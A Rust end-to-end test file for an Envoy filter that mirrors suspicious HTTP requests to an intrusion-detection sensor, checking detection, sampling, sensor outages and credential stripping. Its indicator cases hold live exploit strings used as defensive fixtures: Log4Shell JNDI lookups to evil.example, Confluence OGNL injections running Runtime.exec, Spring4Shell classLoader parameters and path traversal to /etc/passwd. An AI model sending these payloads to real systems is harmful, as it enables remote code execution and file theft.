#![cfg(feature = "e2e")]
//! The mirror filter in the real Envoy (`envoy-config/e2e/mirror_{header,dispatch}.yaml`), in
//! both delivery modes: the sensor receives a copy of every request carrying an indicator
//! (each category, plain and encoded), of every rule-selected request, and of exactly the
//! deterministic sample (checked against the sampling function, and its share within a stated
//! tolerance); benign requests are not copied; the upstream answer is byte-identical whether or
//! not a copy was made; with the sensor down or hanging clients see no error; a client cannot
//! choose to be mirrored; a bad policy stops the plugin with the JSON path in Envoy's log.
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::fs;
use std::time::{Duration, Instant};

use meshsight_policy::mirror::sampling::sampled;
use meshsight_rig::{send, EchoUpstream, Envoy, HttpRequest, RecordedRequest, RigError, Sensor};

const HEADER_TEMPLATE: &str = "envoy-config/e2e/mirror_header.yaml";
const DISPATCH_TEMPLATE: &str = "envoy-config/e2e/mirror_dispatch.yaml";

/// A meshsight counter; a missing one fails the test (a renamed metric must not read as 0).
fn stat(envoy: &Envoy, name: &str) -> u64 {
    envoy.stat(name).unwrap_or_else(|| {
        let ours: Vec<String> = envoy
            .stats()
            .into_keys()
            .filter(|k| k.contains("meshsight"))
            .collect();
        panic!("no stat {name}; meshsight stats: {ours:#?}")
    })
}

/// How long a counter may take to reach Envoy's stats: the module flushes its counts on its
/// root's tick (at most every 500 ms), so a read right after a request may be early.
const FLUSH_WAIT: Duration = Duration::from_secs(5);

/// [`stat`] once it reads `expected` (polled until then, up to [`FLUSH_WAIT`]); what it reads
/// at the deadline otherwise, for the caller's `assert_eq!` to show.
fn settled(envoy: &Envoy, name: &str, expected: u64) -> u64 {
    let _ = envoy.settled_stat(name, expected, FLUSH_WAIT);
    stat(envoy, name)
}
fn policy(delivery: &str, rules: &str) -> String {
    policy_with(delivery, rules, false)
}

fn policy_with(delivery: &str, rules: &str, hold_for_body: bool) -> String {
    format!(
        r#"{{"targets":{{"ids":{{"cluster":"sensor","delivery":"{delivery}","max_rps":100000,"timeout_ms":2000,"max_in_flight":1000}}}},
            "hold_for_body":{hold_for_body},"rules":{rules}}}"#
    )
}

const RULES: &str = r#"[
  {"name":"health","request":{"paths":[{"exact":"/healthz"}]},"action":{"type":"never"}},
  {"name":"admin","request":{"paths":[{"prefix":"/admin/"}]},"action":{"type":"always"}},
  {"name":"debug-header","request":{"headers":[{"name":"x-debug","present":true}]},"action":{"type":"always"}}
]"#;

fn start(template: &str, config: &str, upstream: &EchoUpstream, sensor: &Sensor) -> Envoy {
    Envoy::builder(template)
        .upstream(upstream)
        .sensor(sensor)
        .var("MIRROR_CONFIG", config)
        .start()
        .unwrap_or_else(|err| panic!("Envoy must start: {err}"))
}

/// One request of the detection table: a case name (sent as `x-case`), what it should match.
struct Case {
    name: &'static str,
    category: &'static str,
    request: HttpRequest,
}

fn case(name: &'static str, category: &'static str, request: HttpRequest) -> Case {
    Case {
        name,
        category,
        request: request
            .header("host", "shop.example.com")
            .header("x-case", name),
    }
}

fn form(target: &str, body: &str) -> HttpRequest {
    HttpRequest::post(target)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
}

/// Every built-in category, plain and encoded.
fn indicator_cases() -> Vec<Case> {
    let multicall = "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data></data></array></value></param></params></methodCall>";
    vec![
        case(
            "log4shell-header-plain",
            "log4shell",
            HttpRequest::get("/search").header("user-agent", "${jndi:ldap://evil.example/a}"),
        ),
        case(
            "log4shell-query-encoded",
            "log4shell",
            HttpRequest::get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
        ),
        case(
            "log4shell-lower-obfuscated",
            "log4shell",
            HttpRequest::get("/").header("x-api-version", "${${lower:j}ndi:${lower:l}dap://e/a}"),
        ),
        case(
            "log4shell-default-obfuscated",
            "log4shell",
            // (Not in `referer`: Envoy drops a Referer that is not a valid URI before any filter.)
            HttpRequest::get("/").header("x-forwarded-host", "${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}"),
        ),
        case(
            "log4shell-env-obfuscated-query",
            "log4shell",
            HttpRequest::get("/?x=%24%7B%24%7Benv%3ANOPE%3A-j%7Dndi%3Adns%3A%2F%2Fe%7D"),
        ),
        case(
            "log4shell-json-body-unicode",
            "log4shell",
            HttpRequest::post("/api/users")
                .header("content-type", "application/json")
                .body(r#"{"name":"\u0024\u007bjndi:ldap://e/a}"}"#),
        ),
        case(
            "confluence-26134-plain",
            "confluence_ognl",
            // Raw `"` and `#` in a request target are refused by Envoy's codec with a 400.
            HttpRequest::get("/${@java.lang.Runtime@getRuntime().exec(id)}/"),
        ),
        case(
            "confluence-26134-encoded",
            "confluence_ognl",
            HttpRequest::get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
        ),
        case(
            "confluence-26134-double-encoded",
            "confluence_ognl",
            HttpRequest::get("/%2524%257B7*7%257D/"),
        ),
        case(
            "confluence-26084-form",
            "confluence_ognl",
            form(
                "/pages/doenterpagevariables.action",
                r#"queryString=aaaaaaaa\u0027%2b#{\u0022\u0022[\u0022class\u0022]}%2b\u0027"#,
            ),
        ),
        case(
            "confluence-26084-query-encoded",
            "confluence_ognl",
            HttpRequest::get("/pages/createpage-entervariables.action?SpaceKey=x&linkCreation=%5Cu0027%2B%23%7B7*7%7D%2B%5Cu0027"),
        ),
        case(
            "spring4shell-form",
            "spring4shell",
            form(
                "/app/greeting",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
            ),
        ),
        case(
            "spring4shell-query-encoded",
            "spring4shell",
            HttpRequest::get("/app?class%2Emodule%2EclassLoader.URLs%5B0%5D=0"),
        ),
        case(
            "spring4shell-brackets",
            "spring4shell",
            HttpRequest::get("/app?class%5B%27module%27%5D%5B%27classLoader%27%5D.x=1"),
        ),
        case(
            "traversal-plain",
            "path_traversal",
            HttpRequest::get("/static/../../etc/hosts"),
        ),
        case(
            "traversal-encoded",
            "path_traversal",
            HttpRequest::get("/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ),
        case(
            "traversal-double-encoded",
            "path_traversal",
            HttpRequest::get("/static/%252e%252e%252fsecret"),
        ),
        case(
            "traversal-query-backslash",
            "path_traversal",
            HttpRequest::get("/download?file=..%5C..%5Cwindows%5Cwin.ini"),
        ),
        case(
            "wordpress-multicall",
            "wordpress_xmlrpc",
            HttpRequest::post("/xmlrpc.php")
                .header("content-type", "text/xml")
                .body(multicall),
        ),
        case(
            "wordpress-multicall-encoded-path",
            "wordpress_xmlrpc",
            HttpRequest::post("/blog/xmlrpc%2Ephp")
                .header("content-type", "text/xml")
                .body(multicall),
        ),
    ]
}

fn rule_cases() -> Vec<Case> {
    vec![
        case("rule-admin", "admin", HttpRequest::get("/admin/users")),
        case(
            "rule-debug-header",
            "debug-header",
            HttpRequest::get("/orders").header("x-debug", "1"),
        ),
    ]
}

/// Near misses and ordinary traffic: none is copied (no sample rule in [`RULES`]).
fn benign_cases() -> Vec<Case> {
    vec![
        case("benign-root", "", HttpRequest::get("/")),
        case(
            "benign-version-dots",
            "",
            HttpRequest::get("/docs/v1..2/readme"),
        ),
        case(
            "benign-query-words",
            "",
            HttpRequest::get("/search?q=class+module+loader"),
        ),
        case(
            "benign-json",
            "",
            HttpRequest::post("/api/users")
                .header("content-type", "application/json")
                .body(r#"{"name":"${user}","q":"jndi"}"#),
        ),
        case(
            "benign-xmlrpc-other-method",
            "",
            HttpRequest::post("/xmlrpc.php")
                .header("content-type", "text/xml")
                .body("<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>"),
        ),
        case(
            "benign-confluence-page",
            "",
            HttpRequest::get("/pages/viewpage.action?pageId=123&title=%23%7Bnot-ognl%7D"),
        ),
        case("benign-never-rule", "", HttpRequest::get("/healthz")),
        case(
            "benign-spoofed-header",
            "",
            HttpRequest::get("/shop").header("x-meshsight-mirror", "ids"),
        ),
    ]
}

fn case_names(requests: &[RecordedRequest]) -> BTreeSet<String> {
    requests
        .iter()
        .filter_map(|r| r.header("x-case").map(str::to_string))
        .collect()
}

/// Lines of the access log (`<path> <status> <x-case> <decision JSON>`), waiting until there are `n`.
fn access_log(envoy: &Envoy, n: usize) -> Vec<String> {
    let path = envoy.run_dir().join("access.log");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let lines: Vec<String> = fs::read_to_string(&path)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect();
        if lines.len() >= n || Instant::now() > deadline {
            return lines;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Sends every case to the filtered Envoy and to a reference Envoy whose policy never mirrors;
/// both answers must be byte-identical (the copy never changes the real request).
fn send_all_and_compare(envoy: &Envoy, reference: &Envoy, cases: &[Case]) {
    for (i, c) in cases.iter().enumerate() {
        let request = c
            .request
            .clone()
            .header("x-request-id", &format!("case-{i}-{}", c.name));
        let got = send(envoy.port(), &request);
        let want = send(reference.port(), &request);
        assert_eq!(got.status, 200, "{}: {}", c.name, got.text());
        assert_eq!(
            got.body, want.body,
            "{}: the upstream saw a different request with mirroring on",
            c.name
        );
    }
}

fn detection_table(mode: &str, template: &str, hold_for_body: bool) {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let quiet_sensor = Sensor::start();
    let delivery = if template == HEADER_TEMPLATE {
        "header"
    } else {
        "dispatch"
    };
    let envoy = start(
        template,
        &policy_with(delivery, RULES, hold_for_body),
        &upstream,
        &sensor,
    );
    let reference = start(
        template,
        &format!(
            r#"{{"targets":{{"ids":{{"cluster":"sensor","delivery":"{delivery}"}}}},"signatures":{{"enabled":false}}}}"#
        ),
        &upstream,
        &quiet_sensor,
    );
    let benign = benign_cases();
    let indicators = indicator_cases();
    let rules = rule_cases();
    // Benign first: once the later copies have all arrived, a benign copy would have too.
    send_all_and_compare(&envoy, &reference, &benign);
    send_all_and_compare(&envoy, &reference, &indicators);
    send_all_and_compare(&envoy, &reference, &rules);
    let want: BTreeSet<String> = indicators
        .iter()
        .chain(rules.iter())
        .map(|c| c.name.to_string())
        .collect();
    let copies = sensor.wait_for(want.len(), Duration::from_secs(10));
    std::thread::sleep(Duration::from_millis(300));
    let copies = {
        let later = sensor.requests();
        if later.len() > copies.len() {
            later
        } else {
            copies
        }
    };
    let got = case_names(&copies);
    eprintln!("[{mode}] detection table (case -> category -> mirrored):");
    for c in indicators.iter().chain(rules.iter()).chain(benign.iter()) {
        eprintln!(
            "[{mode}]   {:<36} {:<18} {}",
            c.name,
            if c.category.is_empty() {
                "-"
            } else {
                c.category
            },
            got.contains(c.name)
        );
    }
    let missing: Vec<&String> = want.difference(&got).collect();
    assert!(missing.is_empty(), "[{mode}] not mirrored: {missing:?}");
    let extra: Vec<&String> = got.difference(&want).collect();
    assert!(
        extra.is_empty(),
        "[{mode}] benign requests mirrored: {extra:?}"
    );
    assert_eq!(
        copies.len(),
        want.len(),
        "[{mode}] one copy per selected request"
    );
    assert!(
        quiet_sensor.requests().is_empty(),
        "the reference Envoy mirrors nothing"
    );
    // Bodies reach the sensor whole (they are far below max_body_bytes).
    let wp = copies
        .iter()
        .find(|r| r.header("x-case") == Some("wordpress-multicall"))
        .unwrap();
    assert!(
        wp.body_text().contains("system.multicall"),
        "{}",
        wp.body_text()
    );
    assert_eq!(wp.method, "POST");
    // The upstream never sees the decision header, not even the client's spoofed one.
    for r in upstream.requests() {
        assert!(
            r.header("x-meshsight-mirror").is_none(),
            "[{mode}] upstream saw the decision header: {} {:?}",
            r.path,
            r.headers
        );
    }
    // The decision, with its categories, is in filter state for the audit filter.
    let total = benign.len() + indicators.len() + rules.len();
    let log = access_log(&envoy, total);
    for c in &indicators {
        let line = log
            .iter()
            .find(|l| l.split(' ').nth(2) == Some(c.name))
            .unwrap_or_else(|| panic!("[{mode}] no access log line for {}: {log:?}", c.name));
        assert!(
            line.contains(r#""mirrored":true"#) && line.contains(c.category),
            "[{mode}] {}: {line}",
            c.name
        );
    }
    let stats = |name: &str, expected: u64| settled(&envoy, name, expected);
    let signatures = indicators.len() as u64;
    assert_eq!(
        stats("meshsight_mirror_mirrored_ids_signature", signatures),
        signatures,
        "[{mode}]"
    );
    let by_rule = rules.len() as u64;
    assert_eq!(
        stats("meshsight_mirror_mirrored_ids_rule", by_rule),
        by_rule
    );
    assert_eq!(stats("meshsight_mirror_spoofed_header_removed", 1), 1);
    assert_eq!(stats("meshsight_mirror_dispatch_failed", 0), 0);
    // Envoy has the `clear_route_cache` foreign function the filter calls.
    assert_eq!(stats("meshsight_mirror_route_cache_clear_failed", 0), 0);
    if delivery == "dispatch" {
        // The dispatched copy drops credentials and says why it was sent.
        let c = copies
            .iter()
            .find(|r| r.header("x-case") == Some("rule-admin"))
            .unwrap();
        assert_eq!(c.header("x-meshsight-mirror-reason"), Some("rule"));
        assert_eq!(c.header("x-meshsight-mirror-rule"), Some("admin"));
    }
}

/// Header delivery, request held while its body is read: every copy comes from the route's
/// `request_mirror_policies`.
#[test]
fn header_mode_detection_table() {
    detection_table("header+hold", HEADER_TEMPLATE, true);
}

/// Header delivery, nothing held (the default, and what Istio can run): head hits go by the
/// route, body-only hits by HTTP call to the target's cluster.
#[test]
fn header_mode_without_hold_detection_table() {
    detection_table("header", HEADER_TEMPLATE, false);
}

#[test]
fn dispatch_mode_detection_table() {
    detection_table("dispatch", DISPATCH_TEMPLATE, false);
}

fn sample_share(template: &str, delivery: &str) {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let envoy = start(
        template,
        &policy(
            delivery,
            r#"[{"name":"rest","action":{"type":"sample","fraction":0.25}}]"#,
        ),
        &upstream,
        &sensor,
    );
    let n = 400;
    let ids: Vec<String> = (0..n)
        .map(|i| format!("{i:08x}-7e57-4a11-9d00-5a3b1e{i:06x}"))
        .collect();
    for id in &ids {
        let r = send(
            envoy.port(),
            &HttpRequest::get("/catalog")
                .header("host", "shop.example.com")
                .header("x-request-id", id),
        );
        assert_eq!(r.status, 200);
    }
    let want: BTreeSet<String> = ids
        .iter()
        .filter(|id| sampled(Some(id), 0.25))
        .cloned()
        .collect();
    let copies = sensor.wait_for(want.len(), Duration::from_secs(10));
    std::thread::sleep(Duration::from_millis(300));
    let got: BTreeSet<String> = sensor
        .requests()
        .iter()
        .filter_map(|r| r.header("x-request-id").map(str::to_string))
        .collect();
    assert!(copies.len() >= want.len());
    assert_eq!(got, want, "[{delivery}] exactly the sampled ids are copied");
    // Stated tolerance: 400 requests at 0.25 -> 100 expected, accept 70..=130 (about 3.5 sigma).
    assert!(
        (70..=130).contains(&got.len()),
        "[{delivery}] {} of {n} sampled at 0.25",
        got.len()
    );
    eprintln!("[{delivery}] sampled {} of {n} at 0.25", got.len());
    assert_eq!(
        envoy.settled_stat(
            "meshsight_mirror_mirrored_ids_sample",
            want.len() as u64,
            FLUSH_WAIT
        ),
        Some(want.len() as u64)
    );
}

#[test]
fn header_mode_copies_exactly_the_deterministic_sample() {
    sample_share(HEADER_TEMPLATE, "header");
}

#[test]
fn dispatch_mode_copies_exactly_the_deterministic_sample() {
    sample_share(DISPATCH_TEMPLATE, "dispatch");
}

fn sensor_trouble(template: &str, delivery: &str) {
    let upstream = EchoUpstream::start();
    let mut sensor = Sensor::start();
    let envoy = start(
        template,
        &policy(delivery, r#"[{"name":"all","action":{"type":"always"}}]"#),
        &upstream,
        &sensor,
    );
    let request = |i: usize| {
        HttpRequest::post(format!("/orders?n={i}").as_str())
            .header("host", "shop.example.com")
            .header("x-request-id", &format!("trouble-{i}"))
            .header("content-type", "application/json")
            .body(r#"{"item":"book"}"#)
    };
    let healthy = send(envoy.port(), &request(0));
    assert_eq!(healthy.status, 200);
    let reference = healthy.body.clone();
    sensor.wait_for(1, Duration::from_secs(5));
    // Hanging sensor: every copy is held unanswered, the clients are not.
    sensor.set_hang(true);
    for i in 1..=30 {
        let r = send(envoy.port(), &request(i));
        assert_eq!(r.status, 200, "[{delivery}] hanging sensor: {}", r.text());
    }
    // The copies did go (and hang there).
    assert_eq!(
        sensor.wait_for(31, Duration::from_secs(10)).len(),
        31,
        "[{delivery}] copies reach the hanging sensor"
    );
    if delivery == "dispatch" {
        // Envoy times the held copies out (timeout_ms 2000) and the root context sees it.
        assert!(
            envoy
                .wait_for_stat(
                    "meshsight_mirror_dispatch_failed",
                    3,
                    Duration::from_secs(10)
                )
                .is_some(),
            "[{delivery}] timeouts counted: {:?} failed, {:?} unconfirmed",
            envoy.stat("meshsight_mirror_dispatch_failed"),
            envoy.stat("meshsight_mirror_dispatch_unconfirmed")
        );
    }
    sensor.set_hang(false);
    // Sensor gone: connections refused, clients unaffected.
    sensor.stop();
    for i in 31..=60 {
        let r = send(envoy.port(), &request(i));
        assert_eq!(r.status, 200, "[{delivery}] sensor down: {}", r.text());
    }
    assert_eq!(upstream.requests().len(), 61);
    // The same request (same id) gets the same answer as with a healthy sensor.
    let again = send(envoy.port(), &request(0));
    assert_eq!(again.body, reference);
    // Every copy while the sensor was down was tried and failed, or skipped while the target
    // rested after failures: none is lost uncounted.
    if delivery == "dispatch" {
        // Failures are heard asynchronously and the counts flushed on a tick: poll.
        let accounted = || {
            stat(&envoy, "meshsight_mirror_dispatch_failed")
                + stat(&envoy, "meshsight_mirror_target_resting")
                + stat(&envoy, "meshsight_mirror_in_flight_dropped")
        };
        let deadline = Instant::now() + FLUSH_WAIT;
        while accounted() < 30 && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let accounted = accounted();
        assert!(
            accounted >= 30,
            "[{delivery}] {accounted} copies accounted for"
        );
    } else {
        assert!(
            envoy
                .wait_for_stat(
                    "cluster.sensor.upstream_cx_connect_fail",
                    1,
                    Duration::from_secs(10)
                )
                .is_some(),
            "[{delivery}] Envoy's route mirror tried the stopped sensor"
        );
    }
}

#[test]
fn header_mode_clients_see_no_error_with_the_sensor_hanging_or_down() {
    sensor_trouble(HEADER_TEMPLATE, "header");
}

#[test]
fn dispatch_mode_clients_see_no_error_with_the_sensor_hanging_or_down() {
    sensor_trouble(DISPATCH_TEMPLATE, "dispatch");
}

#[test]
fn dispatch_mode_copy_drops_secrets_and_keeps_the_body() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let envoy = start(
        DISPATCH_TEMPLATE,
        &policy("dispatch", r#"[{"name":"all","action":{"type":"always"}}]"#),
        &upstream,
        &sensor,
    );
    let body = "a=1&b=".to_string() + &"x".repeat(1000);
    let r = send(
        envoy.port(),
        &HttpRequest::post("/login")
            .header("host", "shop.example.com")
            .header("authorization", "Bearer top-secret")
            .header("cookie", "session=top-secret")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(&body),
    );
    assert_eq!(r.status, 200);
    let copy = &sensor.wait_for(1, Duration::from_secs(5))[0];
    assert_eq!(copy.method, "POST");
    assert_eq!(copy.path, "/login");
    assert_eq!(copy.body_text(), body);
    assert!(copy.header("authorization").is_none(), "{:?}", copy.headers);
    assert!(copy.header("cookie").is_none(), "{:?}", copy.headers);
    // The upstream still got them.
    let up = &upstream.requests()[0];
    assert_eq!(up.header("authorization"), Some("Bearer top-secret"));
}

#[test]
fn bad_policy_stops_the_plugin_with_the_json_path_in_envoys_log() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    for (config, needle) in [
        (
            r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"}},{"name":"b","action":{"type":"sample","fraction":1.5}}]}"#,
            "meshsight: invalid policy, refusing it: rules[1].action.fraction: must be within 0.0..=1.0",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"sources":{"cidrs":["10.0.0.0/33"]}}]}"#,
            r#"rules[0].sources.cidrs[0]: "10.0.0.0/33" is not a CIDR (10.0.0.0/8, 2001:db8::/32) or IP address"#,
        ),
        (
            r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"signatures":{"categories":{"log5shell":true}}}"#,
            "signatures.categories.log5shell: unknown category",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"signatures":{"packs":[{"pack":"p","rules":[{"id":"a","name":"a","category":"c","severity":"high","in":["path"],"match":{"any":[""]}}]}]}}"#,
            "signatures.packs[0].rules[0].match.any[0]: must not be empty",
        ),
    ] {
        let result = Envoy::builder(HEADER_TEMPLATE)
            .upstream(&upstream)
            .sensor(&sensor)
            .var("MIRROR_CONFIG", config)
            .start();
        let log = match result {
            Ok(envoy) => panic!("Envoy accepted a bad policy; log:\n{}", envoy.log()),
            Err(err @ (RigError::EnvoyExited { .. } | RigError::NotReady { .. })) => {
                err.log().unwrap_or_default().to_string()
            }
            Err(other) => panic!("unexpected rig error: {other}"),
        };
        assert!(log.contains(needle), "want {needle:?} in:\n{log}");
    }
}
